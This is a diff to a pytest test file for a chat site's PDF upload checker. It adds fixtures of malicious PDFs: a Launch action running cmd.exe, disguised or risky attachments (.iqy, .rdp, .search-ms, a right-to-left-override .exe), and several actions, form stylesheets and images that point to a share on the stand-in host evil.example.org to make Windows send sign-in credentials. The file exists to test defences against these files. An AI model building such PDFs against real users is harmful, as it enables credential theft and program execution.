@@ -7,15 +7,16 @@ import zlib
 import pikepdf
 import pytest
 from pikepdf import Array, Dictionary, Name
+from PIL import Image
 
 from chat.files.accepted import inspect
 from chat.tests.files import samples
 from chat.tests.files.refusing import answer_to
-from chatsite.files import pdf
 from chatsite.files.inspection import pool
-from chatsite.files.pdf import judge
+from chatsite.files.pdf import judging
+from chatsite.files.pdf.judging import judge
 from chatsite.files.verdict import Verdict
-from chatsite.http.errors import FileNotOpened
+from chatsite.http.errors import FileNotOpened, FileRefused
 
 LAUNCH = Dictionary(S=Name.Launch, F=b"cmd.exe")
 
@@ -62,7 +63,71 @@ HARMFUL = {
     "exe": attached("report.exe", b"x"),
     "hidden exe": attached("report.pdf\u202e.exe. ", b"x"),
     "script": attached("report.JS", b"x"),
+    "query": attached("facture.iqy", b"x"),
+    "library": attached("Documents.library-ms", b"x"),
+    "search": attached("resultats.search-ms", b"x"),
+    "link": attached("resultats.url", b"x"),
+    "remote screen": attached("secretariat.rdp", b"x"),
     "named xml": attached("invoice.xml", b"MZ\x90\0"),
+}
+SHARE = "\\\\evil.example.org\\share\\a.pdf"
+
+
+def to_file(kind, name, **keys):
+    return opening(Dictionary(S=Name("/" + kind), F=Dictionary(Type=Name.Filespec, **{"F": name, **keys})))
+
+
+def in_a_picture(document):
+    picture = pikepdf.Stream(document, b"", Type=Name.XObject, Subtype=Name.Image, F=Dictionary(UF=SHARE))
+    document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im0=picture))
+
+
+def by_an_indirect_text(document):
+    document.Root.OpenAction = Dictionary(S=Name.GoToE, F=document.make_indirect(pikepdf.String(SHARE)))
+
+
+def with_an_attachment(document):
+    named = pikepdf.AttachedFileSpec(document, b"x", filename="a.xml").obj
+    named.UF = pikepdf.String(SHARE)
+    document.Root.OpenAction = Dictionary(S=Name.GoToR, F=named)
+
+
+def link(target):
+    def add(document):
+        action = Dictionary(S=Name.URI, URI=target)
+        linked = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 1, 1]), F=4, A=action)
+        document.pages[0].obj.Annots = Array([document.make_indirect(linked)])
+
+    return add
+
+
+def form(xml):
+    def add(document):
+        document.Root.AcroForm = Dictionary(XFA=Array(["template", document.make_stream(xml)]))
+
+    return add
+
+
+# Each makes Windows sign in at somebody's computer.
+ON_A_SHARE = {
+    "GoToR": to_file("GoToR", SHARE),
+    "GoToR, other letters": to_file("GoToR", "a.pdf", UF=SHARE),
+    "GoToR as PDF writes it": to_file("GoToR", "/evil.example.org/share/a.pdf"),
+    "GoToR of an address": to_file("GoToR", "file://evil/share/a.pdf"),
+    "GoToR of an attachment": with_an_attachment,
+    "GoToE": opening(Dictionary(S=Name.GoToE, F=SHARE)),
+    "GoToE, indirect": by_an_indirect_text,
+    "ImportData": to_file("ImportData", "//evil/share/a.fdf"),
+    "SubmitForm": to_file("SubmitForm", "\\\\evil@SSL\\share"),
+    "next": opening(Dictionary(S=Name.GoTo, Next=Dictionary(S=Name.GoToR, F=SHARE))),
+    "picture": in_a_picture,
+    "style sheet of a form": form(b"<?xml-stylesheet href='\\\\evil\\a.xsl'?><x/>"),
+    "picture of a form": form(b"<x><image href='&#92;\\evil\\a.png'/></x>"),
+    "address on opening": opening(Dictionary(S=Name.URI, URI="file://evil/share")),
+    "address after opening": opening(Dictionary(S=Name.GoTo, Next=Array([Dictionary(S=Name.URI, URI=SHARE)]))),
+    "address of a page": lambda document: setattr(
+        document.pages[0].obj, "AA", Dictionary(O=Dictionary(S=Name.URI, URI=SHARE))
+    ),
 }
 HONEST = {
     "plain": None,
@@ -70,6 +135,15 @@ HONEST = {
     "link": opening(Dictionary(S=Name.URI, URI="https://example.org/Launch")),
     "invoice": attached("factur-x.xml", b"<?xml version='1.0'?><Invoice/>"),
     "signed": attached("report.pdf", b"%PDF-1.4"),
+    "attached from a share": attached("\\\\serveur\\partage\\report.xml", b"<x/>"),
+    "another volume": to_file("GoToR", "../tome 2/chapitre.pdf", UF="../tome 2/chapitre.pdf"),
+    "named with a colon": to_file("GoToR", "rapport:final.pdf", Mac="Macintosh:Users:ada:rapport.pdf"),
+    "of this machine": to_file("GoToR", "/C/Users/Ada/a.pdf", UF="/Users/ada/a.pdf"),
+    "sent to the web": to_file("SubmitForm", "https://example.org/send?to=//host", FS=Name.URL),
+    "sent by mail": to_file("SubmitForm", "mailto:ada@example.org", FS=Name.URL),
+    "form in XML": form(b"<x a='https://example.org/' b='note: //' c='\\'><image href='file:///C:/a.png'/></x>"),
+    "link to a share": link("file://serveur/partage/"),
+    "web page on opening": opening(Dictionary(S=Name.URI, URI="https://example.org/")),
 }
 WRITTEN = {
     "plainly": {},
@@ -82,6 +156,17 @@ WRITTEN = {
 @pytest.mark.parametrize("change", HARMFUL.values(), ids=HARMFUL)
 def test_it_refuses_what_runs_a_program(change, options):
     assert answer_to(saved(change, **options)) == "file_runs_programs"
+
+
+@pytest.mark.parametrize("change", ON_A_SHARE.values(), ids=ON_A_SHARE)
+def test_it_refuses_what_leads_to_a_share(change):
+    assert judge(saved(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)) is Verdict.USES_SHARE
+
+
+def test_it_says_how_to_send_it_without_the_share():
+    with pytest.raises(FileRefused, match="Print it to a new PDF") as refused:
+        inspect(saved(ON_A_SHARE["GoToR"]))
+    assert refused.value.code == "file_has_external_parts"
 
 
 @pytest.mark.parametrize("options", WRITTEN.values(), ids=WRITTEN)
@@ -129,16 +214,42 @@ def test_zeros_in_place_of_a_scan_are_no_document():
     assert answer_to(scan[:1024] + bytes(middle) + scan[-1024:]) == "file_broken"
 
 
-@pytest.mark.parametrize("filters", [Name.FlateDecode, Array([Name.FlateDecode])])
-def test_a_black_picture_is_one(filters):
-    """Deflated, it is mostly zeros."""
+BLACK = zlib.compress(bytes(4_000_000), 9)
+EVEN = samples.encoded(Image.new("L", (1600, 1600)), "JPEG", optimize=True)
 
+
+def drawing(data, filters):
     def draw(document):
-        black = zlib.compress(bytes(10_000_000), 9)
-        picture = pikepdf.Stream(document, black, Type=Name.XObject, Subtype=Name.Image, Filter=filters)
+        picture = pikepdf.Stream(document, data, Type=Name.XObject, Subtype=Name.Image, Filter=filters)
         document.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im0=picture))
 
-    assert answer_to(saved(draw)) == "pdf"
+    return draw
+
+
+@pytest.mark.parametrize("options", WRITTEN.values(), ids=WRITTEN)
+@pytest.mark.parametrize(
+    ("data", "filters"),
+    [
+        (BLACK, Name.FlateDecode),
+        (BLACK, Array([Name.FlateDecode])),
+        (EVEN, Name.DCTDecode),
+        (EVEN + b"\n", Name.DCTDecode),
+        (zlib.compress(EVEN), Array([Name.FlateDecode, Name.DCTDecode])),
+        (samples.encoded(Image.new("CMYK", (1600, 1600)), "JPEG", optimize=True), Name.DCTDecode),
+        (samples.encoded(Image.new("L", (4000, 4000)), "JPEG", progressive=True), Name.DCTDecode),
+    ],
+)
+def test_an_even_picture_is_one(data, filters, options):
+    """Packed, it is mostly zeros."""
+    assert judge(saved(drawing(data, filters), **options)) is Verdict.FINE
+
+
+@pytest.mark.parametrize("options", [{}, {"optimize": True}, {"progressive": True}], ids=["plain", "short", "passes"])
+def test_zeros_inside_of_a_picture_are_none(options):
+    photo = samples.encoded(samples.noise(300, 400), "JPEG", **options)
+    hole = photo[:1024] + bytes(len(photo) - 2048) + photo[-1024:]
+    assert judge(saved(drawing(photo, Name.DCTDecode))) is Verdict.FINE
+    assert judge(saved(drawing(hole, Name.DCTDecode))) is Verdict.BROKEN
 
 
 @pytest.mark.parametrize(("missing", "answer"), [(1, "pdf"), (2, "file_broken")])
@@ -151,7 +262,7 @@ def test_a_missing_part_of_a_page_draws_nothing(missing, answer):
 
 
 def test_it_gives_up_on_what_takes_too_long(monkeypatch):
-    monkeypatch.setattr(pdf, "_MAX_SECONDS", -1)
+    monkeypatch.setattr(judging, "_MAX_SECONDS", -1)
     assert judge(saved()) is Verdict.UNBOUNDED
     monkeypatch.setattr(pool, "run", lambda *_, **__: {"value": "unbounded"})
     assert answer_to(saved()) == "file_unpacks_too_large"
@@ -165,7 +276,7 @@ def test_an_answer_that_is_no_verdict_lets_nothing_in(answer, monkeypatch):
 
 
 def test_it_is_opened_in_a_child_process(monkeypatch):
-    monkeypatch.setattr(pdf, "judge", lambda _: pytest.fail("opened here"))
+    monkeypatch.setattr(judging, "judge", lambda _: pytest.fail("opened here"))
     assert answer_to(saved()) == "pdf"
 
 
@@ -192,7 +303,7 @@ def test_nothing_hides_behind_a_limit_of_memory():
     assert judge(hiding(launch)) is Verdict.RUNS_PROGRAMS
     assert judge(hiding(launch + b" " * 17_000_000)) is Verdict.UNBOUNDED
     crowded = hiding(b"<</S/Launch/X[%s]>>" % (b"[%s]" % (b"<<>>" * 50_000) * 20))
-    assert pool.run("chatsite.files.pdf:judge", crowded, memory=64 * pool.MEGABYTE) == {"value": "unbounded"}
+    assert pool.run("chatsite.files.pdf.judging:judge", crowded, memory=64 * pool.MEGABYTE) == {"value": "unbounded"}
 
 
 def test_it_inflates_no_bomb():
